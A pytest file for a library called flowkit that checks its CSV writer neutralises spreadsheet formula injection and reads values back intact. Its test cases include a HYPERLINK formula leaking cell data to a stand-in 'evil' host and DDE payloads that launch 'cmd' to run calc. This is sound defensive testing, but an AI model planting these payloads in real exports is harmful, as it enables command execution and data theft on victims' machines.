"""CSV cells no spreadsheet runs as formulas, read back by flowkit as they were (issue 10)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from flowkit.output.cells import FORMULA_STARTS, GuardedWriter, guarded, unguarded
from flowkit.output.formats import Listing, write_csv


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil/?"&A1,"click")', '\'=HYPERLINK("http://evil/?"&A1,"click")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),  # typed with a quote: written so that it reads back with it
        ("''", "'''"),
        # numbers cannot be formulas and stay numbers
        ("-5", "-5"),
        ("+3.5", "+3.5"),
        ("-1,234.50", "-1,234.50"),
        ("-12%", "-12%"),
        ("-1e5", "-1e5"),
        # text that is no formula is left alone
        ("上海宏达", "上海宏达"),
        ("'s-Hertogenbosch", "'s-Hertogenbosch"),
        ("'", "'"),
        ("a=b", "a=b"),
        ("", ""),
        ("-", "-"),  # a lone sign calls nothing: "none" in a table
        ("'-", "''-"),
        ("+86 138 1234 5678", "'+86 138 1234 5678"),
    ],
)
def test_cells_are_guarded_as_owasp_advises_and_read_back(value: str, written: str) -> None:
    assert guarded(value) == written
    assert unguarded(written) == value


@given(st.text())
def test_guarding_reads_back_exactly_and_never_starts_a_formula(value: str) -> None:
    written = guarded(value)
    assert unguarded(written) == value
    if written.startswith(FORMULA_STARTS) and len(written) > 1:  # then it is a number
        assert written.lstrip("+-").replace(",", "").replace(".", "")[:1].isdigit()


def test_the_listing_writer_guards_text_and_keeps_numbers() -> None:
    listing = Listing(
        columns=("name", "delta"),
        headings={"name": "名称", "delta": "变化"},
        rows=lambda fmt: [{"name": "=1+1", "delta": "-5"}, {"name": "@x", "delta": "+2.5"}],
    )
    out = io.StringIO()
    write_csv(listing, out)
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["名称", "变化"],
        ["'=1+1", "-5"],
        ["'@x", "+2.5"],
    ]


def test_the_guarded_writer_is_a_csv_writer() -> None:
    out = io.StringIO()
    GuardedWriter(out, lineterminator="\n").writerows([["=a", 'say "hi"', "x\ny"]])
    assert out.getvalue() == '\'=a,"say ""hi""","x\ny"\n'
